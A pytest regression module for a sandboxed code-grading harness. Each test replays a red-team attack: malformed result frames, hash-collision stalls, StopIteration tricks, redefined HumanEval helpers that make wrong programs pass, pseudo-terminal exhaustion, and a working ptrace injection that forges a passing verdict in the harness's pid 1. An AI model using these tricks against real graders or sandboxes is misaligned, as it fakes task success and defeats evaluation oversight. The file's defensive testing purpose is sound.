"""Attacks from the red-team pass after issue 11, each as a regression test on every isolating backend.

Every attack here broke something before its fix: a wrong program scored 1.0, one sample turned its
siblings' scores into errors, or one result held the judging process for seconds. Each test runs the attack
itself (a real program in the real sandbox), not a description of it. The `backend` fixture runs this module
on the local (bubblewrap) and Docker backends; `hazard_backend` adds the local backend's cold and unshare
ways to run.
"""

from __future__ import annotations

import errno
import platform
import textwrap
import time

import pytest

from rewardforge.sandbox import ExecRequest, Limits, SandboxBackend
from rewardforge.verifiers.code.cases import TestCase, parse_tests
from rewardforge.verifiers.code.languages import PYTHON
from rewardforge.verifiers.code.verify import CodeVerdict, JudgeOptions, prepare, verify, verify_many

QUICK = JudgeOptions(timeout_s=3.0)
CALLS = parse_tests([{"fn": "add", "args": [1, 2], "expected": 3}, {"fn": "add", "args": [20, 22], "expected": 42}])
HONEST_ADD = "def add(a, b):\n    return a + b\n"


def _run(backend: SandboxBackend, code: str, tests: list[TestCase], options: JudgeOptions = QUICK) -> CodeVerdict:
    verdict = verify(textwrap.dedent(code), tests, backend, PYTHON, options)
    assert verdict.status == "ok", verdict.reason  # the sandbox worked: the program is what is judged
    return verdict


def _assert_zero(verdict: CodeVerdict) -> None:
    assert verdict.passed == 0, [t for t in verdict.tests if t.passed]


# -- R1 (high): a malformed result turned every sibling's score into an error --------------------------
# A program writing `R{"bytes": []}` on its result pipe made the parent's decoder raise AttributeError, which
# escaped judging and failed the whole batch: every correct sibling got status error.


@pytest.mark.parametrize("raw", [b'R{"bytes":[]}', b'R{"bytes":7}', b'R[{"bytes":null}]', b'R{"dict":[[{"bytes":{}},1]]}'])
def test_a_malformed_result_costs_only_its_own_program(backend: SandboxBackend, raw: bytes) -> None:
    evil = f"import os\ndef add(a, b):\n    os.write(3, {raw!r})\n    os._exit(0)\n"
    verdicts = verify_many([(HONEST_ADD, CALLS), (evil, CALLS), (HONEST_ADD + "# 2\n", CALLS)], backend, PYTHON, QUICK)
    assert [(v.status, v.passed) for v in verdicts] == [("ok", 2), ("ok", 0), ("ok", 2)], [v.reason for v in verdicts]
    assert {t.verdict for t in verdicts[1].tests} == {"no_result"}


# -- R2 (medium): set members sharing one hash held the parent for seconds per test --------------------
# Distinct ints equal modulo 2**61 - 1 all hash alike: 40,000 of them (1 MB) cost the parent 7.5 s of CPU
# to decode, with the GIL held, for one test of one sample.

COLLIDING = """
import os
def add(a, b):
    step = (1 << 61) - 1
    members = ",".join(str(i * step) for i in range(1, 42000))
    body = {"set": '{"set":[%s]}', "dict": '{"dict":[%s]}'}[KIND] % (
        members if KIND == "set" else ",".join(f"[{m},0]" for m in members.split(",")[:30000]))
    os.write(3, b"R" + body.encode())
    os._exit(0)
"""


@pytest.mark.parametrize("kind", ["set", "dict"])
def test_set_members_that_share_a_hash_cannot_stall_the_parent(backend: SandboxBackend, kind: str) -> None:
    started = time.thread_time()
    verdict = _run(backend, COLLIDING.replace("KIND", repr(kind)), CALLS[:1])
    cpu = time.thread_time() - started
    assert verdict.tests[0].verdict == "no_result" and "share one hash" in (verdict.tests[0].detail or "")
    assert cpu < 1.5, f"judging one result took {cpu:.1f}s of the parent's CPU"


# -- R3 (medium): StopIteration from the candidate ended the check's own loop ---------------------------
# Raised inside a function that map() or filter() calls, StopIteration ends that iterator: `all(map(...))` was
# True for a candidate that raised it at once.

STOP_CHECKS = [
    "def check(candidate):\n    assert all(map(lambda t: candidate(t[0]) == t[1], [(1, 2), (2, 4), (3, 6)]))\n",
    "def check(candidate):\n    assert not list(filter(lambda x: candidate(x) != 2 * x, range(5)))\n",
    "def check(candidate):\n    for got, want in zip(map(candidate, [1, 2, 3]), [2, 4, 6]):\n        assert got == want\n"
    "    assert sum(1 for _ in map(candidate, [1, 2, 3])) == 3 or True\n",
]


@pytest.mark.parametrize("check", STOP_CHECKS, ids=["all_map", "filter", "zip_map"])
def test_stop_iteration_from_the_candidate_cannot_end_a_checks_loop(backend: SandboxBackend, check: str) -> None:
    tests = parse_tests({"test": check, "entry_point": "double"})
    assert _run(backend, "def double(x):\n    return 2 * x\n", tests).passed == 1
    for raised in ("StopIteration", "StopAsyncIteration", "StopIteration(4)"):
        verdict = _run(backend, f"def double(x):\n    raise {raised}\n", tests)
        _assert_zero(verdict)
        assert "CandidateError" in (verdict.tests[0].detail or ""), verdict.tests


# -- R4 (high): helpers a check calls came from the program ---------------------------------------------
# HumanEval/32, /38 and /50 check the candidate through a helper their prompt defines (poly, encode_cyclic,
# encode_shift). Taken from the program, the helper is an oracle the program writes. Prompts and tests below
# are HumanEval's (github.com/openai/human-eval, MIT), ported as data.

HUMANEVAL_32 = (
    "import math\n\n\ndef poly(xs: list, x: float):\n    \"\"\"Evaluates polynomial with coefficients xs at x.\"\"\"\n"
    "    return sum([coeff * math.pow(x, i) for i, coeff in enumerate(xs)])\n\n\n"
    "def find_zero(xs: list):\n    \"\"\" xs are coefficients of a polynomial. find_zero find x such that poly(x) = 0.\n"
    "    >>> round(find_zero([1, 2]), 2) # f(x) = 1 + 2x\n    -0.5\n    \"\"\"\n",
    "\n\nMETADATA = {}\n\n\ndef check(candidate):\n    import math\n    import random\n    rng = random.Random(42)\n"
    "    import copy\n    for _ in range(100):\n        ncoeff = 2 * rng.randint(1, 4)\n        coeffs = []\n"
    "        for _ in range(ncoeff):\n            coeff = rng.randint(-10, 10)\n            if coeff == 0:\n"
    "                coeff = 1\n            coeffs.append(coeff)\n        solution = candidate(copy.deepcopy(coeffs))\n"
    "        assert math.fabs(poly(coeffs, solution)) < 1e-4\n\n",
    "find_zero",
    "    begin, end = -1., 1.\n    while poly(xs, begin) * poly(xs, end) > 0:\n        begin *= 2.0\n        end *= 2.0\n"
    "    while end - begin > 1e-10:\n        center = (begin + end) / 2.0\n"
    "        if poly(xs, center) * poly(xs, begin) > 0:\n            begin = center\n        else:\n"
    "            end = center\n    return begin\n",
    "def poly(xs, x):\n    return 0.0\n\ndef find_zero(xs):\n    return 0.0\n",
)
HUMANEVAL_38 = (
    "\n\ndef encode_cyclic(s: str):\n    \"\"\"returns encoded string by cycling groups of three characters.\"\"\"\n"
    "    groups = [s[(3 * i):min((3 * i + 3), len(s))] for i in range((len(s) + 2) // 3)]\n"
    "    groups = [(group[1:] + group[0]) if len(group) == 3 else group for group in groups]\n"
    "    return \"\".join(groups)\n\n\ndef decode_cyclic(s: str):\n"
    "    \"\"\"takes as input string encoded with encode_cyclic function. Returns decoded string.\"\"\"\n",
    "\n\nMETADATA = {}\n\n\ndef check(candidate):\n    from random import randint, choice\n    import string\n\n"
    "    letters = string.ascii_lowercase\n    for _ in range(100):\n"
    "        str = ''.join(choice(letters) for i in range(randint(10, 20)))\n        encoded_str = encode_cyclic(str)\n"
    "        assert candidate(encoded_str) == str\n\n",
    "decode_cyclic",
    "    return encode_cyclic(encode_cyclic(s))\n",
    "def encode_cyclic(s):\n    return s\n\ndef decode_cyclic(s):\n    return s\n",
)
HUMANEVAL_50 = (
    "\n\ndef encode_shift(s: str):\n    \"\"\"returns encoded string by shifting every character by 5 in the alphabet.\"\"\"\n"
    "    return \"\".join([chr(((ord(ch) + 5 - ord(\"a\")) % 26) + ord(\"a\")) for ch in s])\n\n\n"
    "def decode_shift(s: str):\n    \"\"\"takes as input string encoded with encode_shift function.\"\"\"\n",
    "\n\nMETADATA = {}\n\n\ndef check(candidate):\n    from random import randint, choice\n    import copy\n"
    "    import string\n\n    letters = string.ascii_lowercase\n    for _ in range(100):\n"
    "        str = ''.join(choice(letters) for i in range(randint(10, 20)))\n        encoded_str = encode_shift(str)\n"
    "        assert candidate(copy.deepcopy(encoded_str)) == str\n\n",
    "decode_shift",
    "    return \"\".join([chr(((ord(ch) - 5 - ord(\"a\")) % 26) + ord(\"a\")) for ch in s])\n",
    # An encoder that returns its input also fools the real decoder's check: the program's own shift is skipped.
    "def encode_shift(s):\n    return s\n\ndef decode_shift(s):\n    return s\n",
)


@pytest.mark.parametrize("problem", [HUMANEVAL_32, HUMANEVAL_38, HUMANEVAL_50], ids=["32_poly", "38_cyclic", "50_shift"])
def test_helpers_a_check_calls_come_from_the_prompt_not_the_program(
        backend: SandboxBackend, problem: tuple[str, str, str, str, str]) -> None:
    prompt, test, entry_point, canonical, hack = problem
    reference = {"test": test, "entry_point": entry_point}
    with_prompt = parse_tests(reference, prompt=prompt)
    assert _run(backend, prompt + canonical, with_prompt).passed == 1  # the prompt's helper is the real one
    _assert_zero(_run(backend, hack, with_prompt))
    _assert_zero(_run(backend, hack, parse_tests({**reference, "prompt": prompt})))  # a whole HumanEval row
    chat = f"Complete this function:\n```python\n{prompt}```\nAnswer with code only."
    _assert_zero(_run(backend, hack, parse_tests(reference, prompt=chat)))  # the prompt's code in a fenced block
    # Without a prompt the helper can only come from the program, as in HumanEval's own harness.
    assert _run(backend, hack, parse_tests(reference)).passed == 1


# -- R5 (high): test code without check() lost its context -----------------------------------------------
# Each top-level statement was a test of its own: a helper the test defines was looked up in the program (which
# could define it to return True), an import was not there for the assert that used it (honest programs
# failed), and a statement that asserts nothing was a test that always passed.

OWN_HELPER = "def is_sorted(x):\n    return list(x) == sorted(x)\n\nassert is_sorted(sort_list([3, 1, 2]))\n"


@pytest.mark.parametrize(("reference", "honest", "hack"), [
    (OWN_HELPER, "def sort_list(x):\n    return sorted(x)\n",
     "def is_sorted(x):\n    return True\n\ndef sort_list(x):\n    return x\n"),
    (["def twice(x):\n    return 2 * x", "assert twice(half(8)) == 8"], "def half(x):\n    return x // 2\n",
     "def twice(x):\n    return 8\n\ndef half(x):\n    return 0\n"),
    ({"test_list": ["assert close(area(2), 12.566)"], "test_setup_code": "def close(a, b):\n    return abs(a - b) < 1e-3"},
     "import math\ndef area(r):\n    return math.pi * r * r\n", "def close(a, b):\n    return True\n\ndef area(r):\n    return 0\n"),
    ("import math\nassert math.isclose(area(2), 12.566, rel_tol=1e-3)\n",
     "import math\ndef area(r):\n    return math.pi * r * r\n", "def area(r):\n    return 12\n"),
    ("data = [3, 1, 2]\nassert sort_list(data) == [1, 2, 3]\nfor n in range(3):\n    assert len(sort_list([n] * n)) == n\n",
     "def sort_list(x):\n    return sorted(x)\n", "def sort_list(x):\n    return []\n"),
], ids=["own_helper", "helper_in_a_list", "mbpp_setup_helper", "import_context", "variable_and_loop"])
def test_test_code_without_check_keeps_its_context(
        backend: SandboxBackend, reference: object, honest: str, hack: str) -> None:
    tests = parse_tests(reference)
    verdict = _run(backend, honest, tests)
    assert verdict.passed == verdict.total > 0, verdict.tests
    _assert_zero(_run(backend, hack, tests))


# -- R6 (critical, local cold runs): a test program wrote into the harness's report stream ---------------
# In a cold run bwrap's own pid 1 held the job's stdout, ran as the job's uid and stayed dumpable, so a program
# could ptrace it and write there. A frame longer than PIPE_BUF is written in pieces; a line injected between
# two pieces ends the genuine, nonce-bearing start of the frame with the program's own verdict. 5 of 5 wrong
# programs passed their opaque check that way. Now a trusted harness is pid 1 in cold runs too, and every frame
# carries a MAC of its whole content.

INJECT = r'''
import ctypes, os, struct, sys, time

class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base "
        "ds es fs gs").split()]

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

def inject_write(pid, fd, data):
    """Make process `pid` write `data` to its descriptor `fd` (PTRACE_ATTACH, then one syscall)."""
    if libc.ptrace(16, pid, None, None) != 0:
        return False
    os.waitpid(pid, 0x40000000)
    saved = Regs()
    libc.ptrace(12, pid, None, ctypes.byref(saved))
    at = next((a for a in (saved.rip, saved.rip - 2)
               if libc.ptrace(1, pid, ctypes.c_void_p(a), None) & 0xFFFF == 0x050F), None)
    if at is not None:
        addr = (saved.rsp - 65536) & ~7
        buf = data + bytes(-len(data) % 8)
        for i in range(0, len(buf), 8):
            libc.ptrace(5, pid, ctypes.c_void_p(addr + i), ctypes.c_void_p(struct.unpack("<Q", buf[i:i + 8])[0]))
        regs = Regs.from_buffer_copy(saved)
        regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx, regs.rip = 1, 2**64 - 1, fd, addr, len(data), at
        libc.ptrace(13, pid, None, ctypes.byref(regs))
        libc.ptrace(9, pid, None, None)
        os.waitpid(pid, 0x40000000)
        libc.ptrace(13, pid, None, ctypes.byref(saved))
    libc.ptrace(17, pid, None, None)
    return at is not None

def add(a, b):
    if os.fork() == 0:  # a daemon that outlives this test and keeps splicing into every frame written meanwhile
        os.setsid()
        if os.fork() == 0:
            end = time.time() + 1.5
            while time.time() < end:
                try:
                    inject_write(1, 1, b'","err":"","res":"UA==","i":0}\n')  # base64 of b"P": the check passed
                except Exception:
                    pass
            os._exit(0)
        os._exit(0)
    sys.stdout.write("A" * 300000)  # the check's frame carries this much output: it is written in pieces
    sys.stdout.flush()
    return 0
'''


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the ptrace injection is written for x86-64 registers")
def test_a_program_cannot_splice_a_verdict_into_the_harness_report(hazard_backend: SandboxBackend) -> None:
    tests = parse_tests({"test": "def check(candidate):\n    for i in range(3):\n        assert candidate(i, i) == 2 * i\n",
                         "entry_point": "add"})
    for _ in range(3):
        verdict = _run(hazard_backend, INJECT, tests, JudgeOptions(timeout_s=5.0))
        _assert_zero(verdict)
        assert verdict.tests[0].verdict in ("wrong_answer", "output_limit"), verdict.tests


# -- R7 (medium): what calls and checks print was shipped to the parent, 1.33 MB per test ----------------
# Only the returned value or the check's verdict is judged, yet each test's frame carried its output: 4 jobs of
# 40 calls printing 1 MB each peaked the parent at +490 MB.


def test_what_calls_and_checks_print_never_reaches_the_parent(backend: SandboxBackend) -> None:
    loud = "import sys\ndef add(a, b):\n    sys.stdout.write('x' * 900_000)\n    return a + b\n"
    tests = (parse_tests([{"fn": "add", "args": [i, 1], "expected": i + 1} for i in range(6)])
             + parse_tests(["assert add(1, 1) == 2 and True", "assert add(2, 2) == 4"]))
    job = prepare(loud, tests, PYTHON, QUICK)
    result = backend.run(job.request)
    assert result.status == "ok", result.reason
    assert len(result.stdout) < 64 << 10, f"{len(result.stdout)} bytes of frames for 8 tests"
    assert verify(loud, tests, backend, PYTHON, QUICK).passed == 8



# -- R8 (low): a job could take every pseudo-terminal the host gives to sandboxes and containers -----------
# kernel.pty.max (4096) is shared by every devpts instance but the host's own (which keeps 1024 in reserve):
# 40 processes opening /dev/ptmx held 3,071 of them until the job ended.


def test_a_job_gets_no_pseudo_terminals(hazard_backend: SandboxBackend) -> None:
    code = ("import os\ntry:\n    os.open('/dev/ptmx', os.O_RDWR)\n    print('opened')\nexcept OSError as exc:\n"
            "    print(exc.errno)\nprint(os.listdir('/dev/pts') if os.path.isdir('/dev/pts') else [])\n")
    result = hazard_backend.run(ExecRequest(argv=["python3", "-c", code], limits=Limits(wall_s=10)))
    assert result.status == "ok", result
    assert result.stdout_text.split("\n")[:2] == [str(errno.ENOENT), "[]"], result.stdout_text


# -- R9 (medium, Docker): C++ on an image without a compiler scored every program 0 -------------------------
# The default image has no g++: every C++ program, correct or not, got "compilation failed:" with no reason,
# as a 0 with status ok. A compiler the sandbox cannot start is now an error that says so; a program cannot
# pass its own compile error off as one.


def test_a_compiler_missing_from_the_sandbox_is_an_error_not_a_zero(backend: SandboxBackend) -> None:
    import dataclasses

    from rewardforge.verifiers.code.languages import CPP

    stdio = parse_tests({"inputs": ["1 2\n"], "outputs": ["3\n"]})
    missing = dataclasses.replace(CPP, compile_argv=("/usr/bin/rf-no-such-compiler", "main.cpp"))
    verdict = verify("int main() { return 0; }\n", stdio, backend, missing, QUICK)
    assert verdict.status == "error" and "cannot run /usr/bin/rf-no-such-compiler" in (verdict.reason or "")
    # A failing compile that prints the same words, or exits 127, is still the program's compile error.
    for script in ("echo 'cannot run /usr/bin/g++' >&2; exit 1", "echo 'main.cpp: error' >&2; exit 127"):
        shell = dataclasses.replace(CPP, compile_argv=("/bin/sh", "-c", script))
        assert verify("int main() {}\n", stdio, backend, shell, QUICK).status == "compile_error"
